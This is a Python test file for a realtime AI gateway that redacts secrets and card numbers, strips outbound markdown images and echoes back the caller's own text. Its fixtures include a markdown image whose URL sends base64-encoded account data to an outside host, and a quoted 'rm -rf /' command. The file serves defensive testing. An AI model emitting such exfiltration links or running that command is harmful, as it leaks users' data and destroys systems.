"""What a server tells as the caller's own: he did say it, and it comes back with his values, or it is read like all that is said."""

from __future__ import annotations

import json
from typing import Any

from gateways import Gateway
from realtime_support import CARD, SECRET, Provider, closing, create, dial, hear, say, user
from websockets.sync.server import ServerConnection

from gateway.realtime.echoes import MAX_ECHOES, Echoes

IMAGE = "See ![logo](https://img.example.net/p.png?data=QWNjb3VudCA0NDcxIGlzIG9wZW4)."


def _created(text: str) -> dict[str, Any]:
    item = {**user(text), "id": "i", "object": "realtime.item", "status": "completed"}
    return {"type": "conversation.item.created", "event_id": "e", "previous_item_id": None, "item": item}


def _session(instructions: str) -> dict[str, Any]:
    settings = {"id": "s", "object": "realtime.session", "type": "realtime", "model": "m", "instructions": instructions, "tools": [],
                "audio": {"input": {"format": {"type": "audio/pcm", "rate": 24_000}, "turn_detection": {"type": "server_vad"}}}}  # fmt: skip
    return {"type": "session.created", "event_id": "e", "session": settings}


def _told(scripted: Gateway, provider: Provider, *events: dict[str, Any]) -> list[str]:
    """What the client hears of these events of the server."""

    def script(server: ServerConnection) -> None:
        say(server, *events, {"type": "over", "event_id": "e"})
        closing(server)

    heard = []
    with provider.plays(script), dial(scripted) as session:
        while json.loads(message := session.recv(timeout=20))["type"] != "over":
            heard.append(str(message))
    return heard


def test_what_he_did_not_say_is_read(scripted: Gateway, provider: Provider) -> None:
    told = _told(scripted, provider, _session(f"Use the key {SECRET} for all."), _created(f"My card is {CARD}."), _created(SECRET))
    assert len(told) == 3
    assert json.loads(told[0])["session"]["instructions"].startswith("Use the key [SECRET_")
    assert json.loads(told[1])["item"]["content"][0]["text"].startswith("My card is [PII_PAYMENT_")
    assert SECRET not in told[2]


def test_what_harms_in_it_does_not_go_out(scripted: Gateway, provider: Provider) -> None:
    assert "img.example" not in "".join(_told(scripted, provider, _created(IMAGE)))


def test_ordinary_instructions_and_settings_pass_as_they_came(scripted: Gateway, provider: Provider) -> None:
    events = [_session("Your knowledge ends in 2023-10. Be helpful, witty and friendly, and never run `rm -rf /`.")]
    assert list(map(json.loads, _told(scripted, provider, *events))) == events


def test_what_he_said_comes_back_to_him(scripted: Gateway, provider: Provider) -> None:
    def script(server: ServerConnection) -> None:
        item = json.loads(server.recv(timeout=20))["item"]
        settings = json.loads(server.recv(timeout=20))["session"]
        say(server, _created(item["content"][0]["text"]), {**_session(settings["instructions"]), "type": "session.updated"})
        closing(server)

    said, wish = f"My card is {CARD}. {IMAGE}", f"Whoever says {CARD} is a friend."
    with provider.plays(script), dial(scripted) as session:
        say(session, create(said), {"type": "session.update", "session": {"type": "realtime", "instructions": wish}})
        assert hear(session, "conversation.item.created")["item"]["content"][0]["text"] == said
        assert hear(session, "session.updated")["session"]["instructions"] == wish
    assert CARD not in "".join(provider.raw)


def test_the_last_ones_are_known_again() -> None:
    echoes = Echoes()
    echoes.note({"type": "first", "list": ["one", {"key": "two"}]})
    assert all(text in echoes for text in ("first", "one", "two", "key"))
    assert "three" not in echoes
    echoes.note([f"text {number}" for number in range(MAX_ECHOES - 4)])
    echoes.note("one")
    echoes.note("three")
    assert ("one" in echoes, "three" in echoes, "type" in echoes) == (True, True, False)
